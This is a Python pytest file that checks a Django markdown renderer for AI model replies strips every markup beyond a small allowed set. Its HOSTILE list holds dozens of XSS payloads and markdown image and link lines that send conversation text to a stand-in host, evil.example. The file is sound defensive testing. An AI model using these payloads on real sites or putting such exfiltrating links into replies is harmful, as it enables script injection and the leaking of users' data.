"""Replies are text from a model: nothing in them may become markup of its own, or reach another place."""

from __future__ import annotations

import re

import pytest
from django.utils.safestring import SafeString, mark_safe

from memory.web.conversation.message_bubbles import put_marks, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<svg/onload=alert(1)><path d="M0 0">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import'//evil.example/x.css';</style>",
    '<a href="javascript:alert(1)">look</a>',
    '<body onload="alert(1)">',
    '<form action="//evil.example"><input name=a><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example">',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "![secret](https://evil.example/?q=what+was+told)",
    "![x][pixel]\n\n[pixel]: https://evil.example/p.png",
    "[look](javascript:alert(1))",
    "[look](JaVaScRiPt:alert`1`)",
    "[look](data:text/html;base64,PHNjcmlwdD4=)",
    "[look](https://evil.example/?q=what+was+told)",
    "[look](vbscript:msgbox(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "<https://evil.example/?q=what+was+told>",
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "> <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "*<b onmouseover=alert(1)>*",
    "<p hx-get='/legacies/' hx-trigger='load'>x</p>",
    "<div data-stream='/x' popover id='status'>x</div>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)<</script>/script>",
]
TAG = re.compile(r"<(/?[a-z0-9]+)((?:\s[^<>]*)?)/?>")
ALLOWED = {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "code", "pre", "hr"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_no_markup_of_its_own(text: str) -> None:
    html = render_markdown(text)
    for name, attributes in TAG.findall(html):
        assert name.lstrip("/") in ALLOWED
        assert attributes.strip() == ""
    leftover = TAG.sub("", html)
    assert "<" not in leftover


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_split_over_two_pieces_is_no_better(text: str) -> None:
    for at in range(1, len(text)):
        joined = render_markdown(text[:at]) + render_markdown(text[at:])
        assert "<" not in TAG.sub("", joined)
        assert {name.lstrip("/") for name, _ in TAG.findall(joined)} <= ALLOWED


def test_markdown_of_a_reply_is_shown() -> None:
    html = render_markdown("Ana told it **twice**:\n\n> He *loved* the sea.\n\n- one\n- two\n\n3. three")
    assert "<strong>twice</strong>" in html
    assert "<blockquote>\n<p>He <em>loved</em> the sea.</p>\n</blockquote>" in html
    assert "<ul>\n<li>one</li>" in html
    assert '<ol start="3">' in html


def test_a_heading_is_a_strong_line_so_that_the_outline_stays_ours() -> None:
    assert render_markdown("# What Ana told") == "<p><strong>What Ana told</strong></p>\n"


def test_words_in_brackets_and_links_stay_readable_as_text() -> None:
    assert "[look](https://example.org)" in render_markdown("[look](https://example.org)")


def test_known_marks_are_put_in_and_other_numbers_stay_text() -> None:
    marks: dict[int, SafeString] = {1: mark_safe("<sup>one</sup>"), 2: mark_safe("")}
    html = put_marks(render_markdown("He loved the sea [1]. Gone [2]. In [1931] and [3]."), marks)
    assert html == "<p>He loved the sea<sup>one</sup>. Gone. In [1931] and [3].</p>\n"


def test_a_line_that_begins_with_a_mark_is_not_swallowed() -> None:
    assert "[1]: told by Ana" in render_markdown("[1]: told by Ana")
